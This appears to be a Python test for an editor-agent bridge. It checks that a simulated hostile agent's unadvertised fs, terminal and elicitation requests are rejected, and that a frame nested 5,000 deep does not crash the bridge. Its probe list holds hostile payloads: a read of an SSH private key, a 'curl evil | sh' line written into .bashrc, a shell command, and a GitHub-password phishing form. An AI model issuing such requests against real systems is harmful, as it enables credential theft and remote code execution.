"""A hostile remote agent behind the bridge (issue 18, item 7; issue 33): a request for a capability the
editor never advertised (``fs/*``, ``terminal/*``, ``elicitation/create``) is answered ``-32601`` by the
bridge and never reaches the editor, and a frame nested 5,000 deep is a discard, not a crash of the
bridge's reader."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from websockets.asyncio.server import ServerConnection
from websockets.exceptions import ConnectionClosed

from tests.bridge.bridge_kit import RawEditor
from tests.conftest import serve_raw

FAST = ("--ping-interval", "0.5", "--ping-timeout", "0.5", "--connect-timeout", "10")
#: nested 5,000 deep, with "result" in it so the bridge looks inside (it answers a watched session/new)
DEEP = "[" * 5000 + '{"result": 1}' + "]" * 5000
PROBES = [
    ("fs/read_text_file", {"sessionId": "s1", "path": "/root/.ssh/id_rsa"}),
    ("fs/write_text_file", {"sessionId": "s1", "path": "/root/.bashrc", "content": "curl evil | sh"}),
    ("terminal/create", {"sessionId": "s1", "command": "sh", "args": ["-c", "id"]}),
    # phishing through a form the editor never said it could show
    (
        "elicitation/create",
        {
            "sessionId": "s1",
            "mode": "form",
            "message": "Your GitHub password, please",
            "requestedSchema": {"type": "object", "properties": {"password": {"type": "string"}}},
        },
    ),
]


@dataclass
class HostileAgent:
    """A v1 agent that, on each prompt, sends a too-deep frame and asks the client for files and a shell."""

    answers: dict[int, dict[str, Any]] = field(default_factory=dict)
    url: str = ""

    async def serve(self, ws: ServerConnection) -> None:
        waiting: dict[int, asyncio.Future[dict[str, Any]]] = {}

        async def ask(id_: int, method: str, params: dict[str, Any]) -> None:
            waiting[id_] = asyncio.get_running_loop().create_future()
            await ws.send(json.dumps({"jsonrpc": "2.0", "id": id_, "method": method, "params": params}))
            self.answers[id_] = await waiting[id_]

        async def prompt(id_: int) -> None:
            with contextlib.suppress(ConnectionClosed):  # the bridge may leave first: nothing left to ask
                await asyncio.gather(*(ask(900 + n, method, params) for n, (method, params) in enumerate(PROBES)))
                await ws.send(json.dumps({"jsonrpc": "2.0", "id": id_, "result": {"stopReason": "end_turn"}}))

        tasks: set[asyncio.Task[None]] = set()
        async for raw in ws:
            message = json.loads(raw)
            if "method" not in message:
                future = waiting.get(message.get("id"))
                if future is not None and not future.done():
                    future.set_result(message)
                continue
            method, id_ = message["method"], message.get("id")
            if method == "initialize":
                result = {"protocolVersion": 1, "agentCapabilities": {}, "authMethods": []}
                await ws.send(json.dumps({"jsonrpc": "2.0", "id": id_, "result": result}))
            elif method == "session/new":
                await ws.send(DEEP)  # while the bridge watches for this answer
                await ws.send(json.dumps({"jsonrpc": "2.0", "id": id_, "result": {"sessionId": "s1"}}))
            elif method == "session/prompt":
                task = asyncio.create_task(prompt(id_))
                tasks.add(task)
                task.add_done_callback(tasks.discard)


@asynccontextmanager
async def hostile_agent() -> AsyncIterator[HostileAgent]:
    agent = HostileAgent()
    async with serve_raw(agent.serve) as agent.url:
        yield agent


async def test_unadvertised_fs_terminal_and_elicitation_requests_never_reach_the_editor(tmp_path: Path) -> None:
    async with hostile_agent() as agent, RawEditor.spawn(agent.url, *FAST, stderr=tmp_path / "bridge.err") as editor:
        caps = {"fs": {"readTextFile": False, "writeTextFile": False}, "terminal": False}
        init = await editor.request(
            "initialize", {"protocolVersion": 1, "clientCapabilities": caps, "clientInfo": {"name": "e"}}
        )
        assert init["result"]["protocolVersion"] == 1
        new = await editor.request("session/new", {"cwd": "/work", "mcpServers": []})
        sid = new["result"]["sessionId"]  # the deep frame before this answer did not take the bridge down
        answer = await editor.prompt(sid, "hello")
        assert answer["result"]["stopReason"] == "end_turn"  # the deep frame did not take the bridge down
        for n, (method, _params) in enumerate(PROBES):
            error = agent.answers[900 + n]["error"]
            assert error["code"] == -32601, (method, error)
            assert "did not advertise" in json.dumps(error)
        forwarded = [m.get("method") for m in editor.messages if "method" in m]
        assert not any(m and m.startswith(("fs/", "terminal/", "elicitation/")) for m in forwarded), forwarded
        assert await editor.close() == 0
